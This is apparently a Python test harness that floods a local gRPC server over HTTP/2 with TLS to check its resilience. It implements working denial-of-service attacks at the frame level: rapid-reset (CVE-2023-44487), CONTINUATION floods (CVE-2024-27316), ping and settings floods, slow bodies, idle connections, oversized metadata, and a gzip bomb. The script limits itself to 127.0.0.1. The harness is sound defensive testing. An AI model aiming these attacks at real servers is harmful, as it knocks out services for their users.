"""A caller with a good certificate who floods a server: HTTP/2 over TLS, frame by frame.

As a program it floods for some seconds, and says as JSON what it sent:

    python tests/flood.py KIND HOST:PORT IDENTITY SECONDS
"""

import json
import os
import select
import socket
import ssl
import struct
import sys
import time
import zlib
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from itertools import chain, count, cycle
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 3, 4, 6, 7, 8, 9,
)  # fmt: skip
END_STREAM, ACK, END_HEADERS = 1, 1, 4
FRAME_MAX = 16_384
CANCEL = struct.pack(">I", 8)
STREAMS_MAX = 100
METHOD = "/ledger.v1.CustodyQueryService/GetPerson"
HEALTH = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
CLOSED = (OSError, EOFError)


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    """A frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _length(number: int) -> bytes:
    """A length in front of a text (RFC 7541, 5.1, with a prefix of seven bits)."""
    if number < 127:
        return bytes([number])
    found, number = bytearray([127]), number - 127
    while number >= 128:
        found.append(number % 128 + 128)
        number //= 128
    return bytes([*found, number])


def fields(*pairs: tuple[str, str]) -> bytes:
    """A block of fields, none of which the peer is to remember (RFC 7541, 6.2.2)."""
    return b"".join(
        b"\x00" + b"".join(_length(len(text)) + text.encode() for text in pair) for pair in pairs
    )


def asking(method: str = METHOD, *more: tuple[str, str]) -> bytes:
    """The block that begins a call."""
    return fields(
        (":method", "POST"),
        (":scheme", "https"),
        (":path", method),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        ("ledger-purpose", "CUSTODY"),
        *more,
    )


def headers(stream: int, block: bytes) -> bytes:
    """The frames of a block, however long it is."""
    parts = [block[at : at + FRAME_MAX] for at in range(0, len(block), FRAME_MAX)]
    kinds = [HEADERS, *[CONTINUATION] * (len(parts) - 1)]
    flags = [*[0] * (len(parts) - 1), END_HEADERS]
    return b"".join(
        frame(kind, flag, stream, part)
        for kind, flag, part in zip(kinds, flags, parts, strict=True)
    )


def message(data: bytes, announced: int | None = None, *, packed: bool = False) -> bytes:
    """A message of gRPC, of which more may be announced than is there."""
    return struct.pack(">BI", packed, len(data) if announced is None else announced) + data


def data(stream: int, content: bytes, *, ends: bool = True) -> bytes:
    """The frames of a body."""
    parts = [content[at : at + FRAME_MAX] for at in range(0, len(content), FRAME_MAX)]
    last = len(parts) - 1
    return b"".join(
        frame(DATA, END_STREAM if ends and at == last else 0, stream, part)
        for at, part in enumerate(parts)
    )


def tls(identity: Path) -> ssl.SSLContext:
    """What an identity connects with."""
    context = ssl.create_default_context(cafile=str(identity / "authorities.pem"))
    context.load_cert_chain(identity / "client.pem", identity / "client.key")
    context.set_alpn_protocols(["h2"])
    return context


class Connection:
    """A connection that says what it is told to, and reads what comes so as not to be stuck."""

    def __init__(
        self, address: str, identity: Path, *, acknowledges: bool = True, window: int = 2**31 - 1
    ) -> None:
        host, port = address.rsplit(":", 1)
        plain = socket.create_connection((host, int(port)), timeout=10)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket = tls(identity).wrap_socket(plain, server_hostname=host)
        self.acknowledges = acknowledges
        self.next_stream = 1
        self.open: set[int] = set()
        self._read = bytearray()
        # All that the peer may send, so that no answer waits for us. Nothing may be said before.
        settings = frame(SETTINGS, payload=struct.pack(">HI", 4, window))
        more = frame(WINDOW_UPDATE, payload=struct.pack(">I", 2**31 - 1 - 65_535))
        self.socket.sendall(PREFACE + settings + more)
        self.socket.setblocking(False)

    def begin(self) -> int:
        """The number of a new stream."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.open.add(stream)
        return stream

    def send(self, content: bytes) -> None:
        """Send it all. Raises OSError or EOFError where the peer has had enough."""
        left = memoryview(content)
        until = time.monotonic() + 10
        while left:
            self.receive()
            try:
                left = left[self.socket.send(left) :]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket], [self.socket], [], 0.05)
            if time.monotonic() > until:
                raise TimeoutError

    def receive(self, wait_s: float = 0) -> list[tuple[int, int, int, bytes]]:
        """The frames that came: (kind, flags, stream, payload)."""
        if wait_s and not self.socket.pending():
            select.select([self.socket], [], [], wait_s)
        with suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError):
            while True:
                came = self.socket.recv(65_536)
                if not came:
                    raise EOFError
                self._read += came
        return list(self._frames())

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        while len(self._read) >= 9:
            size = int.from_bytes(self._read[:3])
            kind, flags, stream = struct.unpack(">BBI", self._read[3:9])
            if len(self._read) < 9 + size:
                return
            payload = bytes(self._read[9 : 9 + size])
            del self._read[: 9 + size]
            if kind == RST_STREAM or (kind in {DATA, HEADERS} and flags & END_STREAM):
                self.open.discard(stream)
            if kind == SETTINGS and not flags & ACK and self.acknowledges:
                self.socket.send(frame(SETTINGS, ACK))
            yield kind, flags, stream, payload

    def close(self) -> None:
        """Go away without a word."""
        self.socket.close()


class Flood:
    """For so many seconds, over connections that are made again when the server closes them."""

    def __init__(self, address: str, identity: Path, seconds: float) -> None:
        self.address, self.identity = address, identity
        self.until = time.monotonic() + seconds
        self.sent, self.closed = 0, 0

    @property
    def goes_on(self) -> bool:
        """Whether the time is not over."""
        return time.monotonic() < self.until

    def over(
        self, send: Callable[[Connection], int], connections: int = 1, **options: bool
    ) -> None:
        """Do this on each connection in turn; it returns how many of whatever it sent."""
        made: dict[int, Connection] = {}
        while self.goes_on:
            for at in range(connections):
                try:
                    if at not in made:
                        made[at] = Connection(self.address, self.identity, **options)
                    self.sent += send(made[at])
                except CLOSED:
                    self.closed += 1
                    if at in made:
                        made.pop(at).close()
        for one in made.values():
            one.close()

    # The eight kinds.

    def resets(self) -> None:
        """Streams that are taken back as soon as they have begun (CVE-2023-44487)."""
        block, body, turns = asking(), message(b"\x0a\x01x"), count()

        def send(one: Connection) -> int:
            streams = [one.begin() for _ in range(50)]
            one.open.clear()
            begun = [headers(stream, block) for stream in streams]
            ended = [frame(RST_STREAM, 0, stream, CANCEL) for stream in streams]
            if next(turns) % 2:
                one.send(b"".join(chain.from_iterable(zip(begun, ended, strict=True))))
            else:
                # These are handed to whoever answers before they are taken back.
                one.send(b"".join(a + data(b, body) for a, b in zip(begun, streams, strict=True)))
                one.receive(0.002)
                one.send(b"".join(ended))
            return len(streams)

        self.over(send)

    def continuations(self) -> None:
        """Fields of a call that never end (CVE-2024-27316)."""
        block = fields(("x-more", "a" * 16_000))

        def send(one: Connection) -> int:
            if not one.open:
                one.send(frame(HEADERS, 0, one.begin(), asking()))
            one.send(frame(CONTINUATION, 0, next(iter(one.open)), block) * 16)
            return 16

        self.over(send)

    def pings(self) -> None:
        """Pings, each of which wants an answer."""
        self._repeated(frame(PING, payload=b"12345678"))

    def settings(self) -> None:
        """Settings, each of which wants an answer."""
        self._repeated(frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535)))

    def _repeated(self, content: bytes) -> None:
        many = content * 500

        def send(one: Connection) -> int:
            one.send(many)
            return 500

        self.over(send)

    def slow_bodies(self) -> None:
        """Three hundred calls, of ours and of health and reflection, whose requests never end."""
        begun = message(b"\x0a", 1_000)
        blocks = cycle(asking(method) for method in (METHOD, HEALTH, REFLECTION))

        def send(one: Connection) -> int:
            one.receive(0.002)
            new = [one.begin() for _ in range(10 - len(one.open))]
            one.send(b"".join(headers(a, next(blocks)) + data(a, begun, ends=False) for a in new))
            one.send(b"".join(frame(DATA, 0, stream, b"\x00") for stream in one.open))
            time.sleep(0.005)
            return len(new)

        self.over(send, 30)

    def silence(self) -> None:
        """A hundred connections that say nothing, or begin to say hello, or say nothing after."""
        host, port = self.address.rsplit(":", 1)
        hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
        made: list[socket.socket] = []
        while self.goes_on:
            while len(made) < 100:
                one = socket.create_connection((host, int(port)), timeout=5)
                if len(made) % 3 == 1:
                    one.send(hello)
                elif len(made) % 3 == 2:
                    with suppress(OSError):
                        one = tls(self.identity).wrap_socket(one, server_hostname=host)
                made.append(one)
                self.sent += 1
            ended, _, _ = select.select(made, [], [], 0.2)
            for one in ended:
                one.setblocking(False)
                with suppress(ssl.SSLWantReadError, BlockingIOError):
                    try:
                        while one.recv(65_536):
                            pass
                    except ConnectionError:
                        pass
                    one.close()
                    made.remove(one)
                    self.closed += 1
            time.sleep(0.05)
        for one in made:
            one.close()

    def metadata(self) -> None:
        """Two hundred kilobytes of metadata, from a peer that never acknowledges the settings."""
        self._unsettled(asking(METHOD, *((f"x-{at}", "a" * 4_000) for at in range(50))))

    def fields(self) -> None:
        """Twelve thousand small fields, from a peer that never acknowledges the settings."""
        self._unsettled(asking(METHOD, *((f"x-{at}", "a") for at in range(12_000))))

    def _unsettled(self, block: bytes) -> None:
        def send(one: Connection) -> int:
            one.receive()
            if len(one.open) >= STREAMS_MAX:
                one.receive(0.05)
                return 0
            stream = one.begin()
            one.send(headers(stream, block) + data(stream, message(b"")))
            return 1

        self.over(send, acknowledges=False)

    def messages(self) -> None:
        """Messages larger than may be, or that unpack to more, or that are none."""
        bomb = zlib.compressobj(9, wbits=31)
        packed = bomb.compress(bytes(50 * 1024 * 1024)) + bomb.flush()
        plain, gzip = asking(), asking(METHOD, ("grpc-encoding", "gzip"))
        kinds: Sequence[tuple[bytes, bytes]] = [
            (plain, message(b"\x0a" * 30_000, 5 * 1024 * 1024)),
            (gzip, message(packed, packed=True)),
            (plain, message(b"\x0a\xff" + b"\xfe" * 8_000)),
            (plain, message(b"\x0b" * 150)),
            (plain, message(b"\xfa\x3e\x82\x20" + b"a" * 4_098)),
        ]

        def send(one: Connection) -> int:
            one.receive()
            if len(one.open) >= STREAMS_MAX // 2:
                one.receive(0.05)
                return 0
            for block, content in kinds:
                stream = one.begin()
                one.send(headers(stream, block) + data(stream, content))
            return len(kinds)

        self.over(send)


KINDS: dict[str, Callable[[Flood], None]] = {
    "resets": Flood.resets,
    "continuations": Flood.continuations,
    "pings": Flood.pings,
    "settings": Flood.settings,
    "slow-bodies": Flood.slow_bodies,
    "silence": Flood.silence,
    "metadata": Flood.metadata,
    "messages": Flood.messages,
    "fields": Flood.fields,
}


def main() -> None:
    """Flood as told to on the command line."""
    kind, address, identity, seconds = sys.argv[1:]
    if not address.startswith("127.0.0.1:"):
        sys.exit("only this machine is flooded")
    flood = Flood(address, Path(identity), float(seconds))
    began = os.times()
    with suppress(*CLOSED):
        KINDS[kind](flood)
    spent = os.times()
    cpu_s = round(spent.user + spent.system - began.user - began.system, 2)
    print(json.dumps({"sent": flood.sent, "closed": flood.closed, "cpu_s": cpu_s}))  # noqa: T201


if __name__ == "__main__":
    main()
